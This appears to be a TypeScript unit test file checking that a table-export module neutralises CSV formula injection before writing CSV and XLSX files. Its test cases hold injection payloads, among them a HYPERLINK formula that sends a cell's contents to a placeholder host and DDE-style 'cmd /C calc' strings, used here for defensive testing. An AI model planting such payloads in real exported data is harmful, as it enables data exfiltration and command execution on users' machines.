import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { csvCell, exportTable } from './table-export.js';

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://x.example/?d="&A1,"klik")',
      `'=HYPERLINK("http://x.example/?d="&A1,"klik")`,
    ],
    ['+62 811 0000', `'+62 811 0000`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+9)*cmd|" /C calc"!A0', `'@SUM(1+9)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
  ])('neutralises %j', (cell, expected) => {
    expect(csvCell(cell)).toBe(expected);
  });

  it('leaves ordinary text, numbers (negative ones too) and empty cells alone', () => {
    expect(csvCell('Siti Aminah, S.Kep.')).toBe('Siti Aminah, S.Kep.');
    expect(csvCell('199003152015032001')).toBe('199003152015032001');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('')).toBe('');
    expect(csvCell(-2)).toBe(-2);
    expect(csvCell(87.5)).toBe(87.5);
    expect(csvCell(null)).toBeNull();
  });
});

describe('exportTable', () => {
  const rows = [
    { name: '=HYPERLINK("http://x.example","Klik")', gap: -2 },
    { name: 'Budi', gap: 1 },
  ];
  const columns = [
    { header: 'Nama', value: (r: (typeof rows)[number]) => r.name },
    { header: 'Kesenjangan', value: (r: (typeof rows)[number]) => r.gap },
  ];

  it('writes no cell of a CSV that a spreadsheet would take for a formula', async () => {
    const file = await exportTable('uji', rows, columns, 'csv');
    const cells = parse(file.body.toString('utf8').replace(/^\uFEFF/, '')) as string[][];
    expect(cells).toEqual([
      ['Nama', 'Kesenjangan'],
      [`'=HYPERLINK("http://x.example","Klik")`, '-2'],
      ['Budi', '1'],
    ]);
    expect(cells.flat().filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
  });

  it('keeps XLSX cells as they are: a typed string cell is never a formula', async () => {
    const file = await exportTable('uji', rows, columns, 'xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file.body as never);
    const cell = book.worksheets[0].getCell('A2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(rows[0].name);
    expect(book.worksheets[0].getCell('B2').value).toBe(-2);
  });
});
